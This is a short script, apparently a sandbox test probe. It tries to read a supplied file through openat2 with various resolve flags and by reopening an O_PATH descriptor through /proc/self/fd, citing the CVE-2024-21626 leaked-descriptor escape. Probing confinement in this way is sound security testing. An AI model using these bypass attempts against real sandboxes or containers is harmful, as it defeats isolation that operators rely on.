# Tries: openat2 with every resolve flag, and an O_PATH descriptor re-opened through /proc/self/fd.
# Origin: CVE-2024-21626 (leaked directory descriptors); openat2(2).

import struct

found = []
for resolve in (0, 1, 8, 16):
    file = native.call("openat2", -100, input["file"], struct.pack("QQQ", 0, 0, resolve), 24)
    into = native.buffer(200)
    found += [file, native.call("read", file, into, 200), into.value]
path = native.call("openat", -100, input["file"], 0o10000000, 0)
again = native.call("openat", -100, f"/proc/self/fd/{path}", 0, 0)
into = native.buffer(200)
[*found, path, again, native.call("read", again, into, 200), into.value]
